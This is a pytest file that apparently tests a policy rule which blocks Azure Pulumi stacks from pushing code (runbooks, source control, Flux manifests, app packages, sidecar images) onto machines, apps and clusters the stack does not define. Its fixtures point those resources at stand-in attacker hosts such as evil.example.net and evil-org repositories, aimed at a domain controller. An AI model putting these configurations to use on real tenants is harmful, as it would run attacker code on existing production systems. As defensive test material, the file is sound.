"""AGID-AZ-059 over gRPC (stack): code the stack puts on machines, apps and clusters goes only to targets it defines
(red11a r12/r16: an Automation hybrid runbook worker on an existing domain controller dc01, an App Service source
control from a foreign repository on an existing app, a Flux configuration on an existing cluster passed)."""

from __future__ import annotations

import pytest

from agentid.analyzer_client import StackResource
from tests.policy.pack_cases import stack_findings
from tests.policy.ruletools import UNKNOWN
from tests.policy.test_pack_grpc import urn

RULE = "AGID-AZ-059"
SUB = "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg1/providers"
DC01 = f"{SUB}/Microsoft.Compute/virtualMachines/dc01"
WORKER = ("azure-native:automation:HybridRunbookWorker", "hrw",
          {"resourceGroupName": "rg1", "automationAccountName": "auto1", "hybridRunbookWorkerGroupName": "g",
           "hybridRunbookWorkerId": "00000000-0000-0000-0000-000000000111", "vmResourceId": DC01})
SOURCE = ("azure-native:web:WebAppSourceControl", "sc",
          {"resourceGroupName": "rg1", "name": "app1", "repoUrl": "https://github.com/evil-org/app", "branch": "main",
           "isManualIntegration": True})
FLUX = ("azure-native:kubernetesconfiguration:FluxConfiguration", "flux",
        {"resourceGroupName": "rg1", "clusterName": "aks1", "clusterResourceName": "managedClusters",
         "clusterRp": "Microsoft.ContainerService", "namespace": "apps", "scope": "namespace",
         "sourceKind": "GitRepository", "gitRepository": {"url": "https://github.com/evil-org/manifests"}})
VM = ("azure-native:compute:VirtualMachine", "dc", {"resourceGroupName": "rg1", "vmName": "dc01"})
APP = ("azure-native:web:WebApp", "app", {"resourceGroupName": "rg1", "name": "app1"})
RUNBOOK = ("azure-native:automation:Runbook", "rb",
           {"resourceGroupName": "rg1", "automationAccountName": "prod-auto", "runbookType": "PowerShell",
            "publishContentLink": {"uri": "https://evil.example.net/rb.ps1"}})
ACCOUNT = ("azure-native:automation:AutomationAccount", "auto", {"resourceGroupName": "rg1", "automationAccountName": "prod-auto"})
AKS = ("azure-native:containerservice:ManagedCluster", "aks", {"resourceGroupName": "rg1", "resourceName": "aks1"})


def after(runner: tuple, *targets: tuple) -> StackResource:
    """`runner` created after `targets` (depends_on them): a literal names a stack target only then (issue 11, a typed
    decoy: the stack's target of an existing one's name fails to create, and a runner not waiting for it runs code
    on the existing one)."""
    return StackResource(*runner[:2], urn(*runner[:2]), runner[2], dependencies=[urn(*t[:2]) for t in targets])


@pytest.mark.parametrize("runner,target,message", [
    (WORKER, VM, f"hrw runs the Automation account's runbooks (a hybrid runbook worker, run as Local System / root) on "
                 f"'{DC01}' (vmResourceId), which this stack does not define"),
    (SOURCE, APP, "sc runs code from a source repository (deployed into the app) on 'app1' (name), which this stack "
                  "does not define"),
    (RUNBOOK, ACCOUNT, "rb runs a runbook (run as the Automation account's identities and on its hybrid workers) on "
                       "'prod-auto' (automationAccountName), which this stack does not define"),
    (FLUX, AKS, "flux runs every manifest of a GitOps source (applied by the Flux controllers) on 'aks1' (clusterName)"),
    # red14 r14-13: an existing app's code swapped through its settings or a container added to it
    (("azure-native:web:WebAppApplicationSettings", "settings",
      {"resourceGroupName": "rg1", "name": "app1", "properties": {
          "WEBSITE_RUN_FROM_PACKAGE": "https://evil.example.net/app.zip"}}), APP,
     "settings runs app settings that choose the app's code (WEBSITE_RUN_FROM_PACKAGE, container image, startup "
     "command) on 'app1' (name), which this stack does not define"),
    (("azure-native:web:WebAppSiteContainer", "sidecar",
      {"resourceGroupName": "rg1", "name": "app1", "containerName": "tool", "image": "evil.example.net/tool:1",
       "isMain": False, "targetPort": "8080"}), APP,
     "sidecar runs a container image (main or sidecar) run in the app on 'app1' (name)"),
])
def test_code_on_an_existing_target_blocks_and_on_a_stack_target_passes(pack, runner, target, message):
    [(name, found)] = stack_findings(pack, RULE, [runner], level="mandatory")
    assert name == runner[1] and message in found, found
    assert stack_findings(pack, RULE, [after(runner, target), target]) == []
    # the same target not waited for (no dependency): its create may fail, the name taken, and the code go to the
    # existing one
    assert [n for n, _ in stack_findings(pack, RULE, [runner, target], level="mandatory")] == [runner[1]]
    # the same name in another resource group is another machine / app / cluster
    elsewhere = (target[0], target[1], {**target[2], "resourceGroupName": "rg2"})
    assert [n for n, _ in stack_findings(pack, RULE, [after(runner, elsewhere), elsewhere], level="mandatory")] == \
        [runner[1]]


def test_a_target_named_in_capitals_is_the_stacks_and_an_autonamed_ones_logical_name_is_not(pack):
    upper = (WORKER[0], WORKER[1], {**WORKER[2], "vmResourceId": DC01.upper()})
    assert stack_findings(pack, RULE, [after(upper, VM), VM]) == []
    # no vmName: azure-native autonames it `dc01<random>` (issue 11), so `.../virtualMachines/dc01` is an existing VM
    autonamed = ("azure-native:compute:VirtualMachine", "dc01", {"resourceGroupName": "rg1"})
    assert [n for n, _ in stack_findings(pack, RULE, [after(WORKER, autonamed), autonamed], level="mandatory")] == \
        ["hrw"]


def test_an_unknown_target_waits_unless_it_comes_from_a_stack_target(pack):
    runner = (SOURCE[0], SOURCE[1], {**SOURCE[2], "name": UNKNOWN})
    [(_, found)] = stack_findings(pack, RULE, [runner], level="advisory")
    assert "cannot check until known: sc.name is computed during preview" in found
    app = StackResource(*APP[:2], urn(*APP[:2]), APP[2])
    depending = StackResource(*runner[:2], urn(*runner[:2]), runner[2], dependencies=[app.urn])
    assert stack_findings(pack, RULE, [app, depending]) == []


def test_runners_that_carry_no_code_of_the_stacks_pass(pack):
    """A monitoring extension or a built-in guest configuration package on an existing VM, an update deployment
    without pre/post tasks, a function without files: no code of the stack's runs there."""
    resources = [
        ("azure-native:compute:VirtualMachineExtension", "ama",
         {"resourceGroupName": "rg1", "vmName": "dc01", "publisher": "Microsoft.Azure.Monitor", "type": "AzureMonitorWindowsAgent"}),
        ("azure-native:guestconfiguration:GuestConfigurationAssignment", "baseline",
         {"resourceGroupName": "rg1", "vmName": "dc01", "properties": {"guestConfiguration": {"name": "AzureWindowsBaseline",
                                                                                              "assignmentType": "Audit"}}}),
        ("azure-native:automation:SoftwareUpdateConfigurationByName", "patch",
         {"resourceGroupName": "rg1", "automationAccountName": "auto1",
          "updateConfiguration": {"operatingSystem": "Windows", "azureVirtualMachines": [DC01]}}),
        ("azure-native:web:WebAppFunction", "fn", {"resourceGroupName": "rg1", "name": "app1", "functionName": "f"}),
    ]
    assert stack_findings(pack, RULE, resources) == []
    with_tasks = ("azure-native:automation:SoftwareUpdateConfigurationByName", "patch",
                  {**resources[2][2], "tasks": {"preTask": {"source": "Invoke-Anything"}}})
    with_files = ("azure-native:web:WebAppFunction", "fn", {**resources[3][2], "files": {"run.csx": "code"}})
    assert [n for n, _ in stack_findings(pack, RULE, [with_tasks, with_files], level="mandatory")] == ["fn", "patch"]


def test_code_agid_az_042_blocks_is_not_reported_twice(pack):
    run_command = ("azure-native:compute:VirtualMachineRunCommandByVirtualMachine", "rc",
                   {"resourceGroupName": "rg1", "vmName": "dc01", "source": {"script": "whoami"}})
    assert stack_findings(pack, RULE, [run_command]) == []


def test_depending_on_a_stack_target_does_not_explain_a_value_another_output_may_hide(pack):
    """issue 11: a source control whose app name is a constant behind a bucket's Output (an existing production app),
    `depends_on=[the stack's app]`, passed; so did one depending on the stack's app only through another resource.
    Both cannot be checked until known; the look-alike (depending on the stack app alone: its name is computed at
    deployment) passes (test_an_unknown_target_waits_unless_it_comes_from_a_stack_target)."""
    runner = (SOURCE[0], SOURCE[1], {**SOURCE[2], "name": UNKNOWN})
    app = StackResource(APP[0], APP[1], urn(*APP[:2]), {"resourceGroupName": "rg1"})  # autonamed: name unknown
    bucket = StackResource("aws:s3/bucketV2:BucketV2", "marker", urn("aws:s3/bucketV2:BucketV2", "marker"), {})
    via = StackResource("aws:s3/bucketV2:BucketV2", "via", urn("aws:s3/bucketV2:BucketV2", "via"), {},
                        dependencies=[app.urn])
    for dependencies in ([app.urn, bucket.urn], [via.urn]):
        depending = StackResource(*runner[:2], urn(*runner[:2]), runner[2], dependencies=dependencies)
        found = stack_findings(pack, RULE, [app, bucket, via, depending], level="advisory")
        assert [m.endswith("cannot check until known: sc.name is computed during preview") for _, m in found] == [True]
    depending = StackResource(*runner[:2], urn(*runner[:2]), runner[2], dependencies=[app.urn])
    assert stack_findings(pack, RULE, [app, bucket, via, depending]) == []
